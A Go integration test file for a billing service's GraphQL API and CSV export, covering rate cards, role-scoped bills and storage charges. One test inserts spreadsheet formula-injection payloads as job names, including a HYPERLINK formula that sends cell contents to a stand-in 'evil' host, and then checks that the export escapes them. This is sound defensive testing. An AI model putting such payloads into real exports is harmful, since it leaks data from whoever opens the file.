package app

import (
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgtype"
	"github.com/stretchr/testify/require"

	"github.com/teslaops/tesla/internal/auth"
	"github.com/teslaops/tesla/internal/cost"
	"github.com/teslaops/tesla/internal/fixture"
	"github.com/teslaops/tesla/internal/lineage"
	"github.com/teslaops/tesla/internal/workload"
)

// Rate cards and bills end to end through the real handler: an ADMIN adds a
// card (a bad one comes back as userErrors naming the field), the day is
// billed, and each role reads what its scope allows, in GraphQL and as CSV.
func TestCostThroughGraphQLAndCSV(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	day := time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)
	for _, j := range []struct{ name, owner string }{{"a", fixture.Viewer}, {"b", fixture.Outsider}} {
		var id int64
		require.NoError(t, e.db.Pool.QueryRow(ctx, `INSERT INTO job (namespace, name, owner_id, cluster_id) VALUES ('t', $1, $2, $3) RETURNING id`,
			j.name, e.fleet.People[j.owner], e.fleet.Clusters["batch-wh-1"]).Scan(&id))
		_, err := e.db.Pool.Exec(ctx, `INSERT INTO job_usage_1h (job_id, hour, requested_core_seconds, used_core_seconds) VALUES ($1, $2, 7200, 3600)`, id, day.Add(time.Hour))
		require.NoError(t, err)
	}
	const upsert = `mutation($in: UpsertRateCardInput!) { upsertRateCard(input: $in) {
		rateCard { id clusterKind coreHour memoryGbHour overheadPerMonth validFrom validTo }
		userErrors { field message code } } }`
	r := e.gql(t, e.as(fixture.Admin), upsert, map[string]any{"in": map[string]any{"clusterKind": "BATCH",
		"validFrom": "2026-11-01T00:00:00Z", "coreHour": "-0.5", "memoryGbHour": "0.01"}})
	require.Empty(t, r.Errors, r.Raw)
	require.Equal(t, []any{"input", "coreHour"}, dig(r.Data, "upsertRateCard", "userErrors", 0, "field"), r.Raw)
	r = e.gql(t, e.as(fixture.Admin), upsert, map[string]any{"in": map[string]any{"clusterKind": "BATCH",
		"validFrom": "2026-11-01T00:00:00Z", "coreHour": "0.05", "memoryGbHour": "0.01", "overheadPerMonth": "300"}})
	require.Empty(t, r.Errors, r.Raw)
	require.Equal(t, "0.05", dig(r.Data, "upsertRateCard", "rateCard", "coreHour"), r.Raw)
	r = e.gql(t, e.as(fixture.Viewer), upsert, map[string]any{"in": map[string]any{"clusterKind": "ONLINE",
		"validFrom": "2026-11-01T00:00:00Z", "coreHour": "0.05", "memoryGbHour": "0.01"}})
	require.Equal(t, "FORBIDDEN", r.code(), r.Raw)

	_, err := cost.NewBiller(e.db.Pool, cost.Config{}, cost.BillingConfig{}, nil).Bill(ctx, day, day.AddDate(0, 0, 1), day.AddDate(0, 0, 1))
	require.NoError(t, err)

	const bills = `query($p: BillPeriodInput!, $by: BillGroupBy!) { currency bills(groupBy: $by, period: $p) {
		total totalCount csvUrl lines { entityId name amount usage idleShare overhead rounding
		items { resource quantity unit unitPrice amount } } } }`
	period := map[string]any{"unit": "DAY", "start": "2026-11-02T00:00:00Z"}
	r = e.gql(t, e.as(fixture.Admin), bills, map[string]any{"p": period, "by": "JOB"})
	require.Empty(t, r.Errors, r.Raw)
	require.Equal(t, "USD", dig(r.Data, "currency"))
	// Two core-hours each at 0.05: 0.10 per job.
	var found bool
	for _, l := range dig(r.Data, "bills", "lines").([]any) {
		if dig(l, "name") == "t/a" {
			found = true
			require.Equal(t, "0.10", dig(l, "usage"), r.Raw)
			require.Equal(t, "2", dig(l, "items", 0, "quantity"), r.Raw)
			require.Equal(t, "core-hour", dig(l, "items", 0, "unit"), r.Raw)
			require.Equal(t, "0.05", dig(l, "items", 0, "unitPrice"), r.Raw)
		}
	}
	require.True(t, found, r.Raw)
	adminTotal := dig(r.Data, "bills", "total")

	// The viewer sees their own job only.
	r = e.gql(t, e.as(fixture.Viewer), bills, map[string]any{"p": period, "by": "JOB"})
	require.Empty(t, r.Errors, r.Raw)
	lines := dig(r.Data, "bills", "lines").([]any)
	require.Len(t, lines, 1, r.Raw)
	require.Equal(t, "t/a", dig(lines[0], "name"))
	require.NotEqual(t, adminTotal, dig(r.Data, "bills", "total"))

	// CSV through the server's authentication: the admin's link works, the
	// viewer's export of another BU is refused, no credential is 401.
	csvURL := dig(r.Data, "bills", "csvUrl").(string)
	get := func(token, path string) (int, string) {
		req, _ := http.NewRequest(http.MethodGet, e.srv.URL+path, nil)
		if token != "" {
			req.Header.Set("Authorization", "Bearer "+token)
		}
		res, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}
	status, body := get(e.as(fixture.Viewer), csvURL)
	require.Equal(t, http.StatusOK, status, body)
	require.Contains(t, body, "t/a")
	require.NotContains(t, body, "t/b")
	status, body = get(e.as(fixture.Viewer), fmt.Sprintf("/api/v1/bills.csv?groupBy=BU&unit=MONTH&start=2026-11-01&bu=%d", e.fleet.BUs["PLATFORM"]))
	require.Equal(t, http.StatusForbidden, status, body)
	status, _ = get("", "/api/v1/bills.csv?groupBy=BU&unit=MONTH&start=2026-11-01")
	require.Equal(t, http.StatusUnauthorized, status)
	status, body = get(e.as(fixture.Admin), "/api/v1/bills.csv?groupBy=CLUSTER&unit=DAY&start=2026-11-02")
	require.Equal(t, http.StatusOK, status, body)
	require.True(t, strings.Contains(body, "batch-wh-1") && strings.Contains(body, "TOTAL"), body)

	// costBreakdown and the cost fields.
	r = e.gql(t, e.as(fixture.BULead), `query($bu: ID!, $p: BillPeriodInput!) {
		costBreakdown(bu: $bu, month: "2026-11-15T00:00:00Z") { summary { amount } byBU { name amount } byCluster { name amount } }
		node(id: $bu) { ... on BU { cost(period: $p) { amount idleShare items { resource amount } } } } }`,
		map[string]any{"bu": b64(fmt.Sprintf("BU:%d", e.fleet.BUs["ADS"])), "p": map[string]any{"unit": "MONTH", "start": "2026-11-01T00:00:00Z"}})
	require.Empty(t, r.Errors, r.Raw)
	require.Equal(t, dig(r.Data, "costBreakdown", "summary", "amount"), dig(r.Data, "node", "cost", "amount"), r.Raw)
}

// Storage through the real handler: the card's storageTbDay is validated
// (userErrors naming the field) and read back; a dataset's size stored by
// lineage is billed as a STORAGE line, in GraphQL and in the CSV export.
func TestStorageThroughGraphQLAndCSV(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	day := time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)
	var job int64
	require.NoError(t, e.db.Pool.QueryRow(ctx, `INSERT INTO job (namespace, name, owner_id, cluster_id) VALUES ('t', 'writer', $1, $2) RETURNING id`,
		e.fleet.People[fixture.Viewer], e.fleet.Clusters["batch-wh-1"]).Scan(&job))
	ids, err := workload.LoadRuns(ctx, e.db.Pool, []workload.RunRecord{{JobID: job, RunUUID: pgtype.UUID{Bytes: [16]byte{9}, Valid: true},
		State: "COMPLETED", StateAt: day, QueuedAt: day, StartedAt: day}})
	require.NoError(t, err)
	size := int64(4_000_000_000_000)
	require.NoError(t, lineage.LoadRunIO(ctx, e.db.Pool, []lineage.RunIO{{JobID: job, RunID: ids[0], At: day.Add(time.Hour),
		Outputs: []lineage.DatasetRef{{Namespace: "hdfs", Name: "/warehouse/t", SizeBytes: &size}}}}))

	const upsert = `mutation($in: UpsertRateCardInput!) { upsertRateCard(input: $in) {
		rateCard { id storageTbDay } userErrors { field message code } } }`
	in := map[string]any{"clusterKind": "BATCH", "validFrom": "2026-11-01T00:00:00Z", "coreHour": "0.05", "memoryGbHour": "0.01", "storageTbDay": "-1"}
	r := e.gql(t, e.as(fixture.Admin), upsert, map[string]any{"in": in})
	require.Empty(t, r.Errors, r.Raw)
	require.Equal(t, []any{"input", "storageTbDay"}, dig(r.Data, "upsertRateCard", "userErrors", 0, "field"), r.Raw)
	in["storageTbDay"] = "2.5"
	r = e.gql(t, e.as(fixture.Admin), upsert, map[string]any{"in": in})
	require.Empty(t, r.Errors, r.Raw)
	require.Equal(t, "2.5", dig(r.Data, "upsertRateCard", "rateCard", "storageTbDay"), r.Raw)
	r = e.gql(t, e.as(fixture.Viewer), `{ rateCards { clusterKind storageTbDay } }`, nil)
	require.Empty(t, r.Errors, r.Raw)
	require.Equal(t, "2.5", dig(r.Data, "rateCards", 0, "storageTbDay"), r.Raw)

	_, err = cost.NewBiller(e.db.Pool, cost.Config{}, cost.BillingConfig{}, nil).Bill(ctx, day, day.AddDate(0, 0, 1), day.AddDate(0, 0, 1))
	require.NoError(t, err)
	r = e.gql(t, e.as(fixture.Viewer), `query($p: BillPeriodInput!) { bills(groupBy: RESOURCE, period: $p) {
		total lines { resource amount items { resource quantity unit unitPrice amount } } } }`,
		map[string]any{"p": map[string]any{"unit": "DAY", "start": "2026-11-02T00:00:00Z"}})
	require.Empty(t, r.Errors, r.Raw)
	var found bool
	for _, l := range dig(r.Data, "bills", "lines").([]any) {
		if dig(l, "resource") == "STORAGE" {
			found = true
			require.Equal(t, "10.00", dig(l, "amount"), r.Raw) // 4 TB-days at 2.5
			require.Equal(t, "TB-day", dig(l, "items", 0, "unit"), r.Raw)
			require.Equal(t, "4", dig(l, "items", 0, "quantity"), r.Raw)
			require.Equal(t, "2.5", dig(l, "items", 0, "unitPrice"), r.Raw)
		}
	}
	require.True(t, found, r.Raw)

	req, _ := http.NewRequest(http.MethodGet, e.srv.URL+"/api/v1/bills.csv?groupBy=JOB&unit=DAY&start=2026-11-02", nil)
	req.Header.Set("Authorization", "Bearer "+e.as(fixture.Viewer))
	res, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	require.Equal(t, http.StatusOK, res.StatusCode, string(b))
	require.Contains(t, string(b), "t/writer,STORAGE,4,TB-day,2.5,10.00", string(b))
}

// The bill CSV export: a name a person chose (job, namespace, person, BU)
// that a spreadsheet would run as a formula is written as text, including
// the forms OWASP lists beyond = + - @ (a leading tab or carriage return)
// and the full-width signs; an ingest-scoped token is refused as on GraphQL.
func TestBillCSVEscapesFormulasAndHonoursScopes(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	ctx := context.Background()
	day := time.Date(2026, 11, 2, 0, 0, 0, 0, time.UTC)
	names := []string{"=HYPERLINK(\"http://evil/\"&A1)", "\t=1+1", "\r=1+1", "＝1+1", "plain"}
	for i, name := range names {
		var id int64
		require.NoError(t, e.db.Pool.QueryRow(ctx, `INSERT INTO job (namespace, name, owner_id, cluster_id) VALUES ($1, $2, $3, $4) RETURNING id`,
			name, fmt.Sprint(i), e.fleet.People[fixture.Viewer], e.fleet.Clusters["batch-wh-1"]).Scan(&id))
		_, err := e.db.Pool.Exec(ctx, `INSERT INTO job_usage_1h (job_id, hour, requested_core_seconds, used_core_seconds) VALUES ($1, $2, 7200, 3600)`, id, day.Add(time.Hour))
		require.NoError(t, err)
	}
	r := e.gql(t, e.as(fixture.Admin), `mutation { upsertRateCard(input: {clusterKind: BATCH, validFrom: "2026-11-01T00:00:00Z",
		coreHour: "0.05", memoryGbHour: "0.01"}) { userErrors { message } } }`, nil)
	require.Empty(t, r.Errors, r.Raw)
	_, err := cost.NewBiller(e.db.Pool, cost.Config{}, cost.BillingConfig{}, nil).Bill(ctx, day, day.AddDate(0, 0, 1), day.AddDate(0, 0, 1))
	require.NoError(t, err)

	get := func(token, path string) (int, string) {
		req, _ := http.NewRequest(http.MethodGet, e.srv.URL+path, nil)
		req.Header.Set("Authorization", "Bearer "+token)
		res, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		return res.StatusCode, string(b)
	}
	const path = "/api/v1/bills.csv?groupBy=JOB&unit=DAY&start=2026-11-02"
	status, body := get(e.as(fixture.Viewer), path)
	require.Equal(t, http.StatusOK, status, body)
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	require.NoError(t, err)
	cells := map[string]bool{}
	for _, rec := range recs {
		cells[rec[2]] = true
	}
	for i, ns := range names[:4] {
		require.True(t, cells[fmt.Sprintf("'%s/%d", ns, i)], "%q escaped in %q", ns, body)
	}
	require.True(t, cells["plain/4"], body)

	// A token limited to ingestion gets no bills.
	_, secret, err := auth.InsertToken(ctx, e.db.Pool, auth.TokenSpec{PersonID: e.fleet.People[fixture.Admin], Role: auth.Admin, Scopes: []string{auth.ScopeIngest}})
	require.NoError(t, err)
	status, body = get(secret, path)
	require.Equal(t, http.StatusForbidden, status, body)
	require.NotContains(t, body, "plain")
}
